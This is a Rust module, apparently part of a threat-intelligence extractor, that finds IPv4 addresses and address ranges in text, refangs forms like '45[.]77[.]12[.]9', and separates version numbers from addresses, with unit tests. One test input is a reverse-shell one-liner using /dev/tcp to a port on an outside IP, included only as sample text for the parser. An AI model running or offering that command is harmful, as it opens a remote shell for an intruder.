//! IPv4 addresses.
//!
//! Four numbers with dots between them are as often a version; what stands around them and in them
//! tells, see `version`.

use std::net::Ipv4Addr;

use super::finds::{Finds, Trust};
use super::refang::is_marked;
use super::version;
use super::word::Word;
use crate::article::EntityKind::Ipv4;

/// Notes the address, or the two ends of a range of addresses, that `word` is.
pub(super) fn note(word: &Word<'_>, finds: &mut Finds) {
    let word = word.trimmed();
    let text = word.text();
    if let Some(address) = parse(text) {
        let trust = version::trust(&word, address);
        finds.push(Ipv4, address.to_string(), trust, is_marked(text));
    } else if let Some((first, last)) = text.split_once('-') {
        let ends = parse(first).zip(parse(last));
        ends.into_iter().flat_map(|(first, last)| [first, last]).for_each(|address| {
            let trust = if version::looks_like_one(address) { Trust::Doubtful } else { Trust::Likely };
            finds.push(Ipv4, address.to_string(), trust, is_marked(text));
        });
    }
}

/// Whether `word` is an address-like version such as `v1.2.3.4`, which is noted.
pub(super) fn note_version(word: &Word<'_>, finds: &mut Finds) -> bool {
    let Some(address) = word.trimmed().text().strip_prefix(['v', 'V']).and_then(parse) else { return false };
    finds.push(Ipv4, address.to_string(), Trust::Against, false);
    true
}

/// Reads an address whose dots may be marks.
pub(super) fn parse(text: &str) -> Option<Ipv4Addr> {
    let mut octets = [0; 4];
    let mut parts = text.split(['.', '\u{1}']);
    for octet in &mut octets {
        *octet = parse_octet(parts.next()?)?;
    }
    parts.next().is_none().then(|| Ipv4Addr::from(octets))
}

/// Figures only, and no zero before another: `01.02` is a date or a section.
fn parse_octet(text: &str) -> Option<u8> {
    let is_plain =
        text.bytes().all(|byte| byte.is_ascii_digit()) && (text.len() == 1 || !text.starts_with('0'));
    if is_plain { text.parse().ok() } else { None }
}

#[cfg(test)]
mod tests {
    use super::super::entities;
    use super::*;

    fn addresses(text: &str) -> Vec<String> {
        let found = entities("", text, &[]);
        found.into_iter().filter(|entity| entity.kind == Ipv4).map(|entity| entity.value).collect()
    }

    #[test]
    fn addresses_are_found() {
        let cases: [(&str, &[&str]); 19] = [
            ("来自 10.1.2.3 的扫描", &["10.1.2.3"]),
            ("10.1.2.3 发起的攻击", &["10.1.2.3"]),
            ("连接45.77.12.9上线", &["45.77.12.9"]),
            ("45[.]77[.]12[.]9", &["45.77.12.9"]),
            ("45.77.12[.]9:8443", &["45.77.12.9"]),
            ("ip：7.2.1.3", &["7.2.1.3"]),
            ("7.2.1.3:443", &["7.2.1.3"]),
            ("7[.]2[.]1[.]3", &["7.2.1.3"]),
            ("10.0.0.0/8", &["10.0.0.0"]),
            ("root@10.3.4.5", &["10.3.4.5"]),
            ("bash -i >& /dev/tcp/7.2.1.3/4444", &["7.2.1.3"]),
            ("45.77.12.9-45.77.12.20", &["45.77.12.20", "45.77.12.9"]),
            ("http://7.2.1.3/a", &["7.2.1.3"]),
            ("host=45.77.12.9;", &["45.77.12.9"]),
            ("45.77.12.9、91.92.250.4", &["45.77.12.9", "91.92.250.4"]),
            ("45.77.12.9.", &["45.77.12.9"]),
            ("256.1.1.1 与 1.2.3 与 1.2.3.4.5", &[]),
            ("45.077.12.9", &[]),
            ("a45.77.12.9 45.77.12.9b", &[]),
        ];
        for (text, expected) in cases {
            assert_eq!(addresses(text), expected, "{text}");
        }
    }

    #[test]
    fn versions_are_no_addresses() {
        let cases = [
            "v2.4.1.3",
            "版本 45.77.12.9",
            "受影响的版本包括 45.77.12.9",
            "45.77.12.9 及以下版本",
            "45.77.12.9之前的版本",
            "Firmware 45.77.12.9",
            "before 10.0.0.1",
            "< 45.77.12.9",
            "<=45.77.12.9",
            "foo==45.77.12.9",
            "Browser/120.0.1.2",
            "foo-1.2.3.4",
            "1.2.3.4-beta",
            "2.4.1.3、2.5.0.1",
            "versions 100.120.140.9, 101.120.140.9 and 102.120.140.9",
            "1.1.1.1 概述",
            "0.1.2.3",
            "Product 75.0.1.99",
        ];
        for text in cases {
            assert_eq!(addresses(text), [""; 0], "{text}");
        }
    }
}
